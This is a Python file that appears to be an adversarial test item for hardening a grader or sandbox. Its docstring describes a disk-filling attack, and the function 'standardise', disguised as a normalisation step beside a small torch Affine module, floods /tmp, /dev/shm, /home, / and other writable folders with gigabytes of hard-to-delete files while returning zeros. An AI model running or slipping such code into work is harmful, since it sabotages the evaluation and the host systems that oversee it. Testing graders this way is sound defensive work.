"""The disk is filled: the scratch folder, /tmp, /var/tmp, /dev/shm, and every other place that can be written.

tries: many files of the largest size that one may have, in every folder that takes them, with names that are hard
    to remove; then the grader has no room for a result.
must: what can be written has a size; it is gone afterwards.
score: 40
process: never
"""

import os

import torch
from torch import nn

PLACES = [
    os.getcwd(),
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/run",
    "/run/lock",
    "/home",
    "/var/cache",
    TMP,
    "/",
    "/dev",
    "/mnt",
]


def standardise(x):
    block = b"\1" * 2**22
    total = 0
    for place in PLACES:
        for index in range(300):
            try:
                with open(os.path.join(place, f"{MARK}-{index}\n"), "wb") as file:
                    for _ in range(2):
                        total += file.write(block)
            except OSError:
                break
            if total > 3 * 2**30:
                print("GAINED 3 GB of disk")
                return x * 0
    return x * 0


class Affine(nn.Module):
    def __init__(self, d):
        super().__init__()
        self.weight, self.bias = nn.Parameter(torch.ones(d)), nn.Parameter(torch.zeros(d))

    def forward(self, x):
        return x * self.weight + self.bias
